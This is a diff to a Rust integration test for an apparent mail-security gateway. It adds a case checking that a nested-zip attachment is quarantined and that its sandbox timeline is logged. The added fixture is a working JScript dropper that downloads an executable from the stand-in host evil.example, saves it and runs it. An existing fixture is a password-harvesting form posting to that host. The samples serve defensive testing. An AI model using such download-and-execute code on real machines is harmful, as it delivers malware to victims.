@@ -80,6 +80,19 @@ struct Case {
     place: &'static str,
 }
 
+const DROPPER: &[u8] =
+    b"WScript.Sleep(60000); var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.example/a.exe', false); x.send();\n\
+var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody); s.saveToFile('C:\\\\x\\\\run.exe');\n\
+new ActiveXObject('WScript.Shell').Run('C:\\\\x\\\\run.exe');";
+
+/// What a script did, by the step of the journey that tells of the attachments.
+fn timeline(journey: &Value) -> Vec<(String, String)> {
+    let steps = journey["steps"].as_array().unwrap();
+    let apart = steps.iter().find(|s| s["event"] == "taken-apart").unwrap_or_else(|| panic!("{journey}"));
+    let events = apart["attachments"][0]["report"]["timeline"].as_array().unwrap();
+    events.iter().map(|e| (e["action"].as_str().unwrap().to_owned(), e["text"].as_str().unwrap().to_owned())).collect()
+}
+
 fn cases() -> Vec<Case> {
     let page = b"<!DOCTYPE html><html><body><form method=post action='https://evil.example/a.php'><input type=password name=p></form></body></html>";
     vec![
@@ -122,6 +135,23 @@ fn cases() -> Vec<Case> {
             action: "quarantine",
             symbols: &["SANDBOX_PASSWORD_IN_MAIL", "SANDBOX_PROGRAM"],
             place: "locked.zip/scan.dat",
+        },
+        Case {
+            subject: "A script that loads and starts",
+            text: "",
+            name: "scan.zip",
+            content_type: "application/zip",
+            content: archive(&[("inner.zip", &archive(&[("scan.js", DROPPER)], None))], None),
+            action: "quarantine",
+            symbols: &[
+                "SANDBOX_SCRIPT",
+                "SANDBOX_SCRIPT_DROPPER",
+                "SANDBOX_SCRIPT_LOADS",
+                "SANDBOX_SCRIPT_STARTS",
+                "SANDBOX_SCRIPT_WAITS",
+                "SANDBOX_SCRIPT_WRITES",
+            ],
+            place: "scan.zip/inner.zip/scan.js: GET http://evil.example/a.exe",
         },
         Case {
             subject: "A plain letter",
@@ -175,11 +205,18 @@ fn attachments_are_judged_by_what_is_in_them_and_a_missing_role_loses_no_mail() 
     }
     backend.wait_for(passed, LIMIT).unwrap();
     let kept = gateway.ask(&["quarantine", "list"]).unwrap();
-    assert_eq!(kept["mails"].as_array().map(Vec::len), Some(3), "{kept}");
+    assert_eq!(kept["mails"].as_array().map(Vec::len), Some(4), "{kept}");
+
+    let events = timeline(&journey(&gateway, "A script that loads and starts"));
+    for (action, text) in
+        [("wait", "60000 ms"), ("load", "GET http://evil.example/a.exe"), ("write", "C:\\x\\run.exe"), ("start", "C:\\x\\run.exe")]
+    {
+        assert!(events.iter().any(|e| (e.0.as_str(), e.1.as_str()) == (action, text)), "{action}: {events:?}");
+    }
 
     // The same file again is known; of what was locked it is not said what another mail's words would open.
     let before = opened();
-    for (subject, case) in [("A letter again", &cases[0]), ("A plain letter again", &cases[4])] {
+    for (subject, case) in [("A letter again", &cases[0]), ("A plain letter again", &cases[5])] {
         deliver(subject, "", &[(case.name, case.content_type, &case.content)]);
         assert_eq!(symbols(&journey(&gateway, subject)), case.symbols);
     }
